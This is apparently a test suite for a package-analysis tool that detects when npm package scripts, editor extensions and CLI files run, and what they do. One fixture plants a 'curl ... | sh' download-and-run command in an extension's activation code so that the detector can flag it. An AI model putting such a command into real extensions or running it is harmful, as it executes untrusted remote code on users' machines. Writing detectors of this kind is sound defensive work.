import assert from 'node:assert/strict';
import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
import { entriesOf } from '../../../../../server/src/artifacts/analysis/code/package/entries.js';
import { packageOf } from '../../../../support/artifacts.js';

/** Which files run at which moment. */
function momentsOf(files: Readonly<Record<string, string>>): readonly string[] {
  const has = (path: string): boolean => Object.hasOwn(files, path);
  const entries = entriesOf({ has, text: (path) => files[path], paths: Object.keys(files) });
  return entries.flatMap(({ moment, file }) => (file === undefined ? [] : `${moment} ${file}`));
}

describe('packages inside of a package', () => {
  const runs = (folder: string, script: string): readonly string[] =>
    momentsOf({
      'package.json': '{}',
      [`${folder}/package.json`]: JSON.stringify({ scripts: { [script]: 'node build.js' } }),
      [`${folder}/build.js`]: '',
    });

  it('run scripts where npm looks for them, and those that it runs (bower)', () => {
    assert.deepEqual(runs('node_modules/mime', 'postinstall'), ['install node_modules/mime/build.js']);
    assert.deepEqual(runs('node_modules/a/node_modules/@b/c', 'install'), [
      'install node_modules/a/node_modules/@b/c/build.js',
    ]);
    assert.deepEqual(runs('node_modules/mime', 'prepare'), []);
    assert.deepEqual(runs('lib/node_modules/mime', 'postinstall'), []);
  });
});

describe('an extension of an editor', () => {
  const behavioursOf = (manifest: object, code: string): readonly string[] =>
    analysePackage(packageOf({ 'package.json': JSON.stringify(manifest), 'src/extension.js': code })).behaviours.map(
      ({ kind, moment }) => `${kind} ${moment}`,
    );
  const code = `exports.activate = async (context) => { await update(context.extensionPath); };
    const update = async (cwd) => require('child_process').exec('curl -fsSL https://load.invalid/x | sh', { cwd });`;

  it('is activated by the editor, and not by whoever calls it', () => {
    const manifest = { name: 'x', version: '1.0.0', main: './src/extension.js', engines: { vscode: '^1.85.0' } };
    assert.deepEqual(behavioursOf(manifest, code), ['download-and-run import']);
    assert.deepEqual(behavioursOf({ ...manifest, main: './src/extension' }, code), ['download-and-run import']);
    assert.deepEqual(behavioursOf({ ...manifest, engines: { node: '>=20' } }, code), ['download-and-run call']);
    assert.deepEqual(behavioursOf({ ...manifest, engines: null }, code), ['download-and-run call']);
    assert.deepEqual(behavioursOf(manifest, code.replace('activate', 'install')), ['download-and-run call']);
  });
});

describe('a file that is both `main` and a command', () => {
  const manifest = JSON.stringify({ main: 'cli.js', bin: { tool: './cli.js' } });

  it('is a command where it asks a command line what to do and gives nothing', () => {
    for (const code of [
      `#!/usr/bin/env node\nrun(process.argv.slice(2));`,
      `#!/usr/bin/env node\nimport { program } from 'commander';\nprogram.parse();`,
      `#!/usr/bin/env node\nif (await rl.question('Write it? [y/N] ') === 'y') run();`,
      `#!/usr/bin/env node\nimport { confirm } from '@inquirer/prompts';\nif (await confirm({ message: 'Write it?' })) run();`,
    ])
      assert.deepEqual(momentsOf({ 'package.json': manifest, 'cli.js': code }), ['command cli.js'], code);
  });

  it('is imported, too, where it gives something, asks nothing, or is no command by itself', () => {
    for (const code of [
      `#!/usr/bin/env node\nmodule.exports = run;\nif (process.argv[2]) run();`,
      `#!/usr/bin/env node\nexport const a = process.argv;`,
      `#!/usr/bin/env node\n(function () { steal(); })();`,
      `run(process.argv.slice(2));`,
    ])
      assert.deepEqual(
        momentsOf({ 'package.json': manifest, 'cli.js': code }),
        ['import cli.js', 'command cli.js'],
        code,
      );
  });
});
